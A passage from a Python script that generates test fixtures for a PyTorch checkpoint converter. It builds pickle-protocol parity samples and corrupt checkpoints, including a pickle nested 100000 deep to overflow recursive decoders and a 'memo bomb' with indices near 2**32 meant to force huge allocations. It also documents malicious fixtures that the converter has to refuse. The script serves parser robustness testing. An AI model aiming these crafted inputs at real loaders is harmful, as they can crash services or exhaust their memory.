    hostile_tensor_zip("negative_stride.pt",
                       FakeTensor(StorageRef(torch.FloatStorage, "1", 4), 3, (4,), (-1,)),
                       tensor_bytes(torch.ones(4)))
    corrupt("negative_stride.pt", "zip", "stride -1 (reverse view)",
            "`bad` has size (4,), stride (-1,) and storage offset 3 over a 4-float "
            "storage -- every element is in bounds, but torch forbids negative "
            "strides.")

    depth = 100_000
    pkl = b"\x80\x02" + b"](" * (depth - 1) + b"]" + b"e" * (depth - 1) + b"."
    write_torch_zip(out("deep_nesting.pt"), pkl)
    corrupt("deep_nesting.pt", "zip", "data.pkl nests lists 100000 deep",
            "`data.pkl` = PROTO 2, then 99999 times `EMPTY_LIST MARK`, one "
            "`EMPTY_LIST`, and 99999 `APPENDS` -- a list nested 100000 deep (and a "
            "MARK stack 99999 deep). Python's iterative unpickler builds it; a "
            "recursive decoder / Drop / value walk must not overflow the stack.")

    pkl = (b"\x80\x02]" + b"r\xff\xff\xff\xff" * 500
           + b"".join(b"r" + struct.pack("<I", 0xFFFFFFFF - 7919 * i) for i in range(1, 501))
           + b"j" + struct.pack("<I", 1337) + b"." )
    write_torch_zip(out("memo_bomb.pt"), pkl)
    corrupt("memo_bomb.pt", "zip", "LONG_BINPUT 0xFFFFFFFF x500 + huge memo indices + LONG_BINGET of a never-put index",
            "`data.pkl` = PROTO 2, EMPTY_LIST, 500x `LONG_BINPUT 0xFFFFFFFF`, 500 "
            "`LONG_BINPUT`s with other indices near 2**32, then `LONG_BINGET 1337` "
            "(never stored) and STOP. A memo stored as a dense vector indexed by "
            "the memo key would try to allocate ~2**32 slots.")

    p = out("empty.pt")
    p.write_bytes(b"")
    corrupt("empty.pt", "legacy", "0-byte file",
            "An empty file. (`format` is `legacy` because that is where torch's "
            "detection ends up for anything that is neither zip nor tar.)")

    p = out("garbage.bin")
    p.write_bytes(random.Random(1234).randbytes(4096))
    corrupt("garbage.bin", "legacy", "4 KiB of seeded random bytes",
            "4096 bytes from `random.Random(1234).randbytes`. (`format` is "
            "`legacy` for the same reason as `empty.pt`.)")

    p = out("not_a_checkpoint.zip")
    write_zip(p, [("readme.txt", b"This zip is not a PyTorch checkpoint.\n")])
    corrupt("not_a_checkpoint.zip", "zip", "a zip with only readme.txt",
            "A valid zip (STORED) containing only `readme.txt`: no `*/data.pkl`.")

    entries = zip_entries(OUT / "zip_state_dict.pt")
    root = zip_root(entries)
    ent = dict(entries)
    pkl = ent[f"{root}/data.pkl"]
    cut = None
    for op, arg, pos in pickletools.genops(pkl):
        if pos > len(pkl) // 2 and op.name == "BINUNICODE":
            cut = pos + 3  # inside the 4-byte length field
            break
    assert cut is not None
    storages = [(n[len(root) + 6:], d) for n, d in entries if n.startswith(f"{root}/data/")]
    write_torch_zip(out("pickle_truncated.pt"), pkl[:cut], storages)
    corrupt("pickle_truncated.pt", "zip", "data.pkl cut mid-opcode, rest of the zip valid",
            f"`zip_state_dict.pt`'s `data.pkl` cut after {cut} of {len(pkl)} bytes, "
            "in the middle of a BINUNICODE length field; storages and all other "
            "records intact (written with torch's PyTorchFileWriter).")


# --------------------------------------------------------------------------
# pickle VM parity fixtures
# --------------------------------------------------------------------------


def pickle_parity_object():
    shared = [1, "two", 3.0]
    return {
        "none": None,
        "true": True,
        "false": False,
        "zero": 0,
        "small": 7,
        "byte": 255,
        "neg": -3,
        "int16": 40000,
        "neg_int32": -(2**31),
        "i64_max": 2**63 - 1,
        "i64_min": -(2**63),
        "big": 2**70,
        "neg_big": -(2**70),
        "float": 1.5,
        "neg_zero": -0.0,
        "huge": 1e300,
        "text": "h\u00e9llo \u4e2d\u6587 \U0001F600",
        "empty_str": "",
        "bytes": b"\x00\xff",
        "nested": [1, [2, [3, []]], {"k": "v"}],
        "tuple": (1, "a", None),
        "empty_tuple": (),
        "set": {1, 2},
        "frozenset": frozenset({3, 4}),
        "bytearray": bytearray(b"ab\x00"),
        "shared_a": shared,
        "shared_b": shared,
    }


def to_json_tree(v):
    if v is None:
        return {"type": "none"}
    if isinstance(v, bool):
        return {"type": "bool", "value": v}
    if isinstance(v, int):
        if -(2**63) <= v < 2**63:
            return {"type": "int", "value": v}
        return {"type": "bigint", "dec": str(v)}
    if isinstance(v, float):
        return {"type": "float", "bits": struct.pack(">d", v).hex(), "repr": repr(v)}
    if isinstance(v, str):
        return {"type": "str", "value": v}
    if isinstance(v, bytes):
        return {"type": "bytes", "hex": v.hex()}
    if isinstance(v, bytearray):
        return {"type": "bytearray", "hex": bytes(v).hex()}
    if isinstance(v, list):
        return {"type": "list", "items": [to_json_tree(x) for x in v]}
    if isinstance(v, tuple):
        return {"type": "tuple", "items": [to_json_tree(x) for x in v]}
    if isinstance(v, frozenset):
        return {"type": "frozenset", "items": [to_json_tree(x) for x in sorted(v)]}
    if isinstance(v, set):
        return {"type": "set", "items": [to_json_tree(x) for x in sorted(v)]}
    if isinstance(v, dict):
        return {"type": "dict", "items": [[to_json_tree(k), to_json_tree(x)] for k, x in v.items()]}
    raise TypeError(type(v))


def make_pickles():
    obj = pickle_parity_object()
    files = []
    for proto in range(6):
        data = pickle.dumps(obj, protocol=proto)
        back = pickle.loads(data)
        assert to_json_tree(back) == to_json_tree(obj)
        assert back["shared_a"] is back["shared_b"]
        name = f"pickles/protocol_{proto}.pkl"
        out(name).write_bytes(data)
        files.append(f"protocol_{proto}.pkl")
    exp = {
        "files": files,
        "object": to_json_tree(obj),
        "same_object": [["shared_a", "shared_b"]],
        "schema": ("none | bool{value} | int{value: fits i64} | bigint{dec: decimal string} | "
                   "float{bits: 16 hex digits of the IEEE-754 f64, big-endian; repr: Python repr} | "
                   "str{value} | bytes{hex} | bytearray{hex} | list{items} | tuple{items} | "
                   "set{items, sorted} | frozenset{items, sorted} | dict{items: [[key, value], ...] "
                   "in insertion order}"),
    }
    out("pickles/expected.json").write_text(json.dumps(exp, indent=1) + "\n")


# --------------------------------------------------------------------------
# README
# --------------------------------------------------------------------------

README_HEAD = """# Converter fixtures

Generated by `scripts/make_convert_fixtures.py` (torch {torch}, Python's
pickle, zipfile and tarfile; everything seeded). Do not edit by hand -- re-run the
script. Running it twice gives identical `expected.json`, `casts_expected.json`,
`pickles/*` and README (on the same machine -- see `casts.pt` for the
CPU-dependent NaN bits). Checkpoint files are byte-identical too except the
legacy streams (`legacy_stream.pt`, `legacy_big_endian.pt`,
`truncated_legacy.pt`, `evil_legacy.pt`: torch names legacy storages after
their memory address), `torchscript.pt` and `export.pt2`.

`expected.json` = `{{"fixtures": {{name: entry}}}}`, each entry with `format`,
`description`, `key` (the `--key` to pass, null = none), `tensors` (name ->
dtype (safetensors name), shape, sha256 of the logical values as contiguous
little-endian bytes, computed from what real torch loaded back), `dropped`
(non-tensor paths the converter should report; a subset -- check containment),
`unsupported` (tensor names that cannot be stored), `refuse` (null = must
convert; a string = must fail and the error must contain it; `""` = any error)
and `canary` (a file the malicious payload would create; the test must check it
does not exist after the conversion attempt). An entry name of the form
`file#key` refers to `file`.

For malicious fixtures `refuse` is the first global (as `module.name`, exactly
as written in the pickle) that a weights-only loader would have to reject.
Corrupt fixtures have `refuse: ""`; the README records what torch itself does
with them.

"""

PICKLES_README = """## pickles/

`pickles/protocol_0.pkl` ... `protocol_5.pkl` are `pickle.dumps(obj,
protocol=p)` of one plain object (no torch): a dict with str keys holding None,
True, False, ints (0, 7, 255, -3, 40000, -2**31, 2**63-1, -2**63, 2**70,
-2**70), floats (1.5, -0.0, 1e300), a non-ASCII str (é, 中文, 😀), an empty
str, bytes `00 ff`, a nested list with an inner dict, a tuple, an empty tuple,
a set {{1, 2}}, a frozenset {{3, 4}}, a bytearray and one list stored under both
`shared_a` and `shared_b` (the same object: protocols write it once and reuse
it through the memo). Opcode coverage: protocol 0 is all text opcodes (`I01`
for True, `L...L` for 2**70, `F`, `V`, `(l`/`(d`, `p`/`g` memo); 1 adds the
binary ints/strings/memo and EMPTY_* opcodes but still writes bools with `I`;
2 adds PROTO, NEWTRUE/NEWFALSE, LONG1, TUPLE1-3. Protocols 0-2 encode bytes as
`_codecs.encode(text, 'latin1')` and sets, frozensets and bytearrays
as REDUCE of `__builtin__.set` / `frozenset` / `bytearray` (`builtins.*` in
protocol 3, which also has SHORT_BINBYTES); 4 adds FRAME, MEMOIZE,
SHORT_BINUNICODE, EMPTY_SET/ADDITEMS, FROZENSET and STACK_GLOBAL (for
bytearray); 5 adds BYTEARRAY8.
`pickles/expected.json` = {{"files": [...], "object": tree, "same_object":
[["shared_a", "shared_b"]], "schema": "..."}} where a tree node is
`{{"type": T, ...}}`: {schema}.
"""


def write_readme():
    lines = [README_HEAD.format(torch=torch.__version__.split("+")[0])]
    for name, text in README:
        lines.append(f"## {name}\n\n{text}\n")
    exp = json.loads((OUT / "pickles" / "expected.json").read_text())
    lines.append(PICKLES_README.format(schema=exp["schema"]))
    (OUT / "README.md").write_text("\n".join(lines))


# --------------------------------------------------------------------------


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    torch.manual_seed(0)
    make_zip_state_dicts()
    make_single_tensor()
    legacy_obj = make_legacy_stream()
    make_legacy_tar()
    make_legacy_big_endian(legacy_obj)
    make_zip_big_endian()
    make_torchscript()
    make_export()
    make_whole_module()
    make_training_checkpoint()
    make_dtypes()
    make_views()
    make_unsupported()
    make_hf_sharded()
    make_safetensors()
    make_casts()
    make_evil()
    make_corrupt()
    make_pickles()
    (OUT / "expected.json").write_text(json.dumps({"fixtures": EXPECTED}, indent=1) + "\n")
    write_readme()
    total = sum(f.stat().st_size for f in OUT.rglob("*") if f.is_file())
    print(f"wrote {len(EXPECTED)} fixtures, {total} bytes under {OUT.relative_to(ROOT)}")
    for k, v in TORCH_BEHAVIOUR.items():
        print(f"  torch.load {k}: {v}")


if __name__ == "__main__":
    main()
